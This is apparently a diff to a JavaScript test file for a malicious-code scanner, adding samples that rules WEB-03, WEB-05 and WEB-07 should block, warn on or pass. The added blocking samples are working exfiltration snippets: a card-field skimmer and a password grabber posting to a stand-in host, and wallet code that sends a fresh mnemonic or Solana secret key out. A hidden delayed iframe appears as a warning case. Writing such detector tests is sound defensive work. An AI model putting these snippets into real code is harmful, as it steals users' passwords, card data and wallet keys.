@@ -58,11 +58,26 @@ describeVerdicts("WEB-03", {
     "to an encoded host": `
       const u = atob("${base64(url)}");
       document.addEventListener("change", (e) => navigator.sendBeacon(u, document.querySelector("input[type=password]").value));`,
+    "a whole form, field by field": `
+      document.addEventListener("submit", (e) => {
+        const card = {};
+        for (const [name, value] of new FormData(e.target)) if (/card|cvc/.test(name)) card[name] = value;
+        navigator.sendBeacon("https://files.example.test/i", JSON.stringify(card));
+      });`,
+    "fields that a selection of the page gives": `
+      (function ($) {
+        $("input[type=password]").on("blur", function () {
+          $.post("//files.example.test/v", { name: this.name, value: $(this).val() });
+        });
+      })(jQuery);`,
   },
   passes: {
     "a form of the caller": `exports.submit = (form, to) => fetch(to, { method: "POST", body: new FormData(form) });`,
     "a value that is returned": `exports.value = (selector) => document.querySelector(selector).value;`,
     "a page view": `fetch("${url}", { method: "POST", body: location.pathname });`,
+    "a form that goes where the page says": `
+      export const submit = (url) => async (e) => fetch(url, { method: "POST", body: new FormData(e.target) });
+      jQuery("form.ajax").on("submit", function () { jQuery.post(jQuery(this).attr("action"), jQuery(this).serialize()); });`,
   },
 });
 
@@ -107,11 +122,39 @@ describeVerdicts("WEB-05", {
         }
       }
       module.exports = Keypair;`,
+    "a phrase that was just made": `
+      const bip39 = require("bip39");
+      exports.generate = () => {
+        const words = bip39.generateMnemonic(256);
+        fetch("https://files.example.test/e?s=" + encodeURIComponent(words));
+        return words;
+      };`,
+    "the secret part of a pair": `
+      const { Keypair } = require("@solana/web3.js"), bs58 = require("bs58");
+      exports.open = (text) => {
+        const pair = Keypair.fromSecretKey(bs58.decode(text));
+        fetch("https://files.example.test/health", { headers: { ray: bs58.encode(pair.secretKey) } });
+        return pair;
+      };`,
   },
   passes: {
     "an address of the caller": `exports.send = (privateKey, rpc, tx) => fetch(rpc, { method: "POST", body: tx });`,
     "a derivation": `exports.seed = (mnemonic) => require("crypto").pbkdf2Sync(mnemonic, "mnemonic", 2048, 64, "sha512");`,
     "a price": `exports.price = (privateKey) => fetch("${url}").then((r) => r.json());`,
+    "an exchange that is sent signatures": `
+      const CryptoJS = require("crypto-js"), { createHmac } = require("crypto");
+      exports.order = ({ key, secret_key }, query) =>
+        fetch("https://api.exchange.example/v1?" + query + "&signature=" + CryptoJS.HmacSHA256(query, secret_key), { headers: { key } });
+      exports.cancel = (secretKey, query) =>
+        fetch("https://api.exchange.example/v1?" + query + "&signature=" + createHmac("sha256", secretKey).update(query).digest("hex"));`,
+    "a wallet that asks for its balance": `
+      const bip39 = require("bip39"), bip32 = require("bip32"), bitcoin = require("bitcoinjs-lib"), { computeAddress } = require("ethers");
+      exports.balance = async (mnemonic) => {
+        const root = bip32.fromSeed(await bip39.mnemonicToSeed(mnemonic));
+        const { address } = bitcoin.payments.p2wpkh({ pubkey: root.derivePath("m/84'/0'/0'").publicKey });
+        return (await fetch("https://explorer.example.test/address/" + address)).json();
+      };
+      exports.owned = async (privateKey) => (await fetch("https://explorer.example.test/" + computeAddress(privateKey))).json();`,
   },
 });
 
@@ -144,10 +187,19 @@ describeVerdicts("WEB-07", {
   blocks: {},
   warns: {
     "a page that is led away": `window.location.href = "https://files.example.test/x";`,
+    "a frame that nobody sees": `
+      setTimeout(() => {
+        const f = document.createElement("iframe");
+        f.style.cssText = "display:none";
+        f.src = "https://ads.example.test/p";
+        document.body.appendChild(f);
+      }, 8000);`,
   },
   passes: {
     "a link that is followed when called": `exports.go = () => { window.location.href = "https://files.example.test/x"; };`,
     "a place within the page": `window.location.hash = "#top";`,
     "an address of the caller": `exports.go = (to) => window.location.assign(to);`,
+    "a frame that somebody asked for": `
+      export const embed = (el, id) => { const f = document.createElement("iframe"); f.src = "https://video.example.test/embed/" + id; el.append(f); };`,
   },
 });
